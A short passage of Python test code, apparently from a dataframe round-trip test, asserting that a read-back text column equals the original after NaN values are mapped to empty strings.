    expected = frame.text.tolist()
    assert [("" if v != v else v) for v in back.text.tolist()] == expected
